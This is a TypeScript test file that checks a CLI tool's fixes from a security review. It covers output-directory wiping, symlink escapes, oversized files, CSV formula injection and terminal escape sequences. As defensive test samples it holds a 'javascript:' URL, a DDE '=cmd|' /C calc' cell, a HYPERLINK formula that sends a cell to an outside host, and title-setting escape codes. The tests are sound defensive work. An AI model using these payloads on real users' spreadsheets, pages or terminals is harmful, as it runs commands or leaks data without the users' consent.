import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { visibleControls, visibleStrings } from '../src/text/terminal.js';
import { command as build } from '../src/commands/build.js';
import { command as review } from '../src/commands/review.js';
import type { CommandIO } from '../src/commands/types.js';
import { fromSpreadsheetSafe, spreadsheetSafe } from '../src/output/spreadsheet-safe.js';
import { parseBytes, parseFile } from '../src/pipeline/parse.js';
import { readBase } from '../src/replay/base.js';
import { atCsv } from '../src/query/at.js';
import { SourceError } from '../src/source/types.js';
import { readInputBytes } from '../src/source/read.js';
import { Progress } from '../src/cli/progress.js';
import { renderText } from '../src/diff/render.js';
import { commitStaging, freshStaging, NotABuildError } from '../src/output/swap.js';
import type { Diff } from '../src/schema/replay.js';

/**
 * What a security review of the build, the review site and the CSV writers found (2026-12-06), each reproduced
 * here: a symlinked or foreign --out wiped, files outside the input read through symlinks, a `javascript:` link
 * from the front matter, a sparse file loaded whole, CSV cells a spreadsheet runs, control characters reaching the
 * terminal, the --base path in the outputs.
 */
const tmp = mkdtempSync(join(tmpdir(), 'nomen-sec-files-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const DECREE = (extra = '') => `---\nnumber: 2099000002\n${extra}---\n\n**Article 1er.** A l'article 14 de l'annexe, la prestation 589676 - 589680 est supprimée.\n`;

function io() {
  const err: string[] = [];
  const out: string[] = [];
  const value: CommandIO = { stdout: (s) => void out.push(s), stderr: (s) => void err.push(s), isTTY: false };
  return { value, err: () => err.join(''), out: () => out.join('') };
}

function fresh(name: string): string {
  const dir = join(tmp, name);
  mkdirSync(join(dir, 'in'), { recursive: true });
  writeFileSync(join(dir, 'in', 'a.md'), DECREE());
  return dir;
}

describe('the build replaces only an earlier build', () => {
  it('refuses an --out holding other files, and one a symlink points to, deleting nothing (exit 2)', async () => {
    const dir = fresh('out-guard');
    mkdirSync(join(dir, 'victim'));
    writeFileSync(join(dir, 'victim', 'thesis.tex'), 'precious');
    symlinkSync(join(dir, 'victim'), join(dir, 'out'));
    for (const out of [join(dir, 'out'), join(dir, 'victim')]) {
      const o = io();
      expect(await build.run([join(dir, 'in'), '--out', out], o.value)).toBe(2);
      expect(o.err()).toMatch(/not a nomen build/);
      expect(readFileSync(join(dir, 'victim', 'thesis.tex'), 'utf8')).toBe('precious');
      expect(readdirSync(join(dir, 'victim'))).toEqual(['thesis.tex']);
    }
  });

  it('a `documents` that is a file is no mark of a build; files put into out/ while a build runs are not deleted by its swap', async () => {
    const dir = fresh('out-marks');
    mkdirSync(join(dir, 'fake'));
    for (const f of ['index.json', 'errors.json', 'documents']) writeFileSync(join(dir, 'fake', f), 'mine');
    expect(await build.run([join(dir, 'in'), '--out', join(dir, 'fake')], io().value)).toBe(2);
    // (the swap looks again: out/ was missing when the build began, a file appeared in it meanwhile)
    const out = join(dir, 'late');
    await freshStaging(out);
    mkdirSync(out);
    writeFileSync(join(out, 'thesis.tex'), 'precious');
    await expect(commitStaging(out)).rejects.toBeInstanceOf(NotABuildError);
    expect(readFileSync(join(out, 'thesis.tex'), 'utf8')).toBe('precious');
  });

  it('still builds into a new or empty directory, and over its own earlier build', async () => {
    const dir = fresh('out-ok');
    mkdirSync(join(dir, 'empty'));
    for (const out of [join(dir, 'new'), join(dir, 'empty'), join(dir, 'new')]) expect(await build.run([join(dir, 'in'), '--out', out], io().value)).toBe(0);
    expect(existsSync(join(dir, 'empty', 'index.json'))).toBe(true);
  });
});

describe('inputs are read inside the input directory only', () => {
  it('a symlink to a file outside is an error record (outside-input), never read; one inside is read', async () => {
    const dir = fresh('links');
    writeFileSync(join(dir, 'secret.txt'), 'AWS_SECRET=abcd1234SECRET token 123456\n');
    symlinkSync(join(dir, 'secret.txt'), join(dir, 'in', 'leak.txt'));
    // (a link to a file inside is read: the build then holds the one document both name)
    mkdirSync(join(dir, 'in', 'store'));
    writeFileSync(join(dir, 'in', 'store', 'b.md'), DECREE().replace('2099000002', '2099000003'));
    symlinkSync(join(dir, 'in', 'store', 'b.md'), join(dir, 'in', 'b.md'));
    const o = io();
    expect(await build.run([join(dir, 'in'), '--out', join(dir, 'out')], o.value)).toBe(1);
    const errors = JSON.parse(readFileSync(join(dir, 'out', 'errors.json'), 'utf8')) as { errors: { path: string; code: string }[] };
    expect(errors.errors).toEqual([expect.objectContaining({ path: 'leak.txt', code: 'outside-input' })]);
    expect(readdirSync(join(dir, 'out', 'documents')).sort()).toEqual(['2099000002.json', '2099000003.json']);
    expect(JSON.stringify(readdirSync(join(dir, 'out'), { recursive: true }))).not.toContain('leak');
    // (a link to a hidden file inside the input, which the walk itself skips, `x.md -> .env`, is not read either)
    writeFileSync(join(dir, 'in', '.env'), 'TOKEN=abcd1234 123456\n');
    symlinkSync(join(dir, 'in', '.env'), join(dir, 'in', 'env.md'));
    expect(await build.run([join(dir, 'in'), '--out', join(dir, 'out')], io().value)).toBe(1);
    const again = JSON.parse(readFileSync(join(dir, 'out', 'errors.json'), 'utf8')) as { errors: { path: string; code: string }[] };
    expect(again.errors.map((e) => [e.path, e.code])).toEqual([['env.md', 'outside-input'], ['leak.txt', 'outside-input']]);
  });

  it('the review site shows no source a symlink leads out to', async () => {
    const dir = fresh('review-links');
    expect(await build.run([join(dir, 'in'), '--out', join(dir, 'out')], io().value)).toBe(0);
    // (the sources given to review are not those built: a.md now leads out of them)
    writeFileSync(join(dir, 'secret.md'), DECREE() + '\nAWS_SECRET=abcd1234SECRET\n');
    rmSync(join(dir, 'in', 'a.md'));
    symlinkSync(join(dir, 'secret.md'), join(dir, 'in', 'a.md'));
    expect(await review.run(['--out', join(dir, 'out'), '--sources', join(dir, 'in'), '--to', join(dir, 'site')], io().value)).toBe(0);
    const pages = readdirSync(join(dir, 'site'), { recursive: true }).map(String).filter((p) => p.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(0);
    for (const p of pages) expect(readFileSync(join(dir, 'site', p), 'utf8')).not.toContain('AWS_SECRET');
  });
});

describe('front matter cannot put a live link in the review site', () => {
  it('a `url` that is not http(s) is left out with a warning', async () => {
    const doc = await parseBytes('x.md', Buffer.from(DECREE('url: "javascript:alert(document.domain)//"\n')));
    expect(doc.document.eli).toBeNull();
    expect(doc.diagnostics.map((d) => d.code)).toContain('meta/url');
    const ok = await parseBytes('x.md', Buffer.from(DECREE('url: https://www.ejustice.just.fgov.be/eli/arrete/2099/01/01/2099000002/justel\n')));
    expect(ok.document.eli).toBe('https://www.ejustice.just.fgov.be/eli/arrete/2099/01/01/2099000002/justel');
  });
});

describe('a file is refused by its size before it is read', () => {
  it('a 200 MB sparse file is `too-large` at once, in a build and for `parse`', async () => {
    const dir = fresh('sparse');
    const big = join(dir, 'in', 'big.md');
    writeFileSync(big, '');
    truncateSync(big, 200 * 1024 * 1024);
    const before = process.memoryUsage().rss;
    await expect(parseFile(big)).rejects.toMatchObject({ code: 'too-large' });
    expect(await build.run([join(dir, 'in'), '--out', join(dir, 'out')], io().value)).toBe(1);
    expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024);
    const errors = JSON.parse(readFileSync(join(dir, 'out', 'errors.json'), 'utf8')) as { errors: { path: string; code: string }[] };
    expect(errors.errors).toEqual([expect.objectContaining({ path: 'big.md', code: 'too-large' })]);
    // (a text just over its limit too, without reading it)
    truncateSync(big, 2 * 1024 * 1024);
    const e = await parseFile(big).catch((x: unknown) => x);
    expect(e).toBeInstanceOf(SourceError);
    expect((e as SourceError).message).toMatch(/not read/);
    // (a PDF past its own limit is pdf-too-large, as the README says)
    writeFileSync(big, '%PDF-1.4\n');
    truncateSync(big, 70 * 1024 * 1024);
    await expect(parseFile(big)).rejects.toMatchObject({ code: 'pdf-too-large' });
  });

  it('a pipe is read, up to the limit (`nomen parse /dev/stdin`, `<(git show …)`); a device past it is refused', async () => {
    const dir = fresh('pipe');
    const fifo = join(dir, 'fifo');
    execFileSync('mkfifo', [fifo]);
    const writer = spawn('sh', ['-c', `cat '${join(dir, 'in', 'a.md')}' > '${fifo}'`]);
    expect(Buffer.from(readInputBytes(fifo)).toString('utf8')).toBe(DECREE());
    await new Promise((r) => writer.on('close', r));
    expect(() => readInputBytes('/dev/zero')).toThrow(expect.objectContaining({ code: 'too-large' }));
  });
});

describe('CSV cells a spreadsheet would run', () => {
  it('a text cell starting with = + - @ gets a leading quote; numbers and other text are left alone; reading undoes it', () => {
    expect(spreadsheetSafe('=HYPERLINK("http://x.example/?"&A2,"Click")')).toBe('\'=HYPERLINK("http://x.example/?"&A2,"Click")');
    expect(spreadsheetSafe('+ Gingivectomie')).toBe("'+ Gingivectomie");
    expect(spreadsheetSafe('@SUM(A1)')).toBe("'@SUM(A1)");
    for (const plain of ['-5', '+2.5', 'Consultation', '', "'déjà"]) expect(spreadsheetSafe(plain)).toBe(plain);
    for (const s of ['=1+1', '- 50 %', 'x', '-3', "'=HYPERLINK(1)", "''+a", "'-5"]) expect(fromSpreadsheetSafe(spreadsheetSafe(s))).toBe(s);
  });

  it('`at --format csv` writes a formula-looking label safe, and --base reads it back as it was', () => {
    const row = { codes: ['589676', '589680'], label: '=cmd|\' /C calc\'!A0', value: null, from: '2020-01-01', to: null, knownSince: false, source: '2099000002', article: '14' };
    const csv = atCsv([row] as Parameters<typeof atCsv>[0]);
    expect(csv).toContain(`,'=cmd|' /C calc'!A0,`);
    const base = readBase('base.csv', csv, null);
    expect(base.rows[0].label).toBe(row.label);
    // (a `;`, where Belgian locales' spreadsheets split, is quoted)
    expect(atCsv([{ ...row, label: 'Consultation;=1+1' }] as Parameters<typeof atCsv>[0])).toContain('"Consultation;=1+1"');
  });
});

describe('what reaches a terminal, and what outputs name', () => {
  it('control characters from an input are made visible; newlines and tabs stay; a diff\'s texts before nomen colours them', () => {
    expect(visibleControls('x\u001b]0;PWN\u0007\u001b[2Jy\n')).toBe('x\\x1b]0;PWN\\x07\\x1b[2Jy\n');
    // (even nomen's own progress sequence, when an input carries it: only nomen's styled output keeps it)
    expect(visibleControls('visible\r\u001b[2Kinnocent.md\tb')).toBe('visible\\x0d\\x1b[2Kinnocent.md\tb');
    expect(visibleControls('plain — text\n')).toBe('plain — text\n');
    expect(visibleStrings({ a: ['x\u001by', 3], b: null })).toEqual({ a: ['x\\x1by', 3], b: null });
  });

  it('nomen\'s own sequences are written styled, with the input\'s parts made visible: the progress line, the colours of diff', () => {
    const written: [string, boolean | undefined][] = [];
    const tty: CommandIO = { stdout: () => undefined, stderr: (s, styled) => void written.push([s, styled]), isTTY: true };
    new Progress(tty, 2).update(1, 'visible\r\u001b[2Kinnocent.md');
    expect(written).toEqual([['\r\u001b[2K[1/2] visible\\x0d\\x1b[2Kinnocent.md', true]]);
    const diff = { from: 'a', to: 'b', added: [], removed: [], values: [], labels: [], rules: [], indications: [], text: { conditions: [], words: [{ op: '-', text: 'x\u001b]0;PWN\u0007' }, { op: '+', text: 'y' }] } } as unknown as Diff;
    const coloured = renderText(diff, true);
    expect(coloured).toContain('\u001b[31m[-x\\x1b]0;PWN\\x07-]\u001b[0m');
    expect(coloured).not.toContain('\u0007');
  });

  it('a --base given by its absolute path is named in the outputs by its file name only', async () => {
    const dir = fresh('base-path');
    rmSync(join(dir, 'in', 'a.md'));
    const basePath = join(dir, 'private', 'base.csv');
    mkdirSync(join(dir, 'private'));
    writeFileSync(basePath, 'codes,label,value,from,to,knownSince,source,article\n589676-589680,Consultation,N 10,2020-01-01,,false,base,14\n');
    expect(await build.run([join(dir, 'in'), '--out', join(dir, 'out'), '--base', basePath], io().value)).toBe(0);
    const state = readFileSync(join(dir, 'out', 'nomenclature.json'), 'utf8');
    expect(state).toContain('"base.csv"');
    expect(state).not.toContain(join(dir, 'private'));
    expect(readFileSync(join(dir, 'out', '.cache', 'replay.json'), 'utf8')).not.toContain(join(dir, 'private'));
  });
});
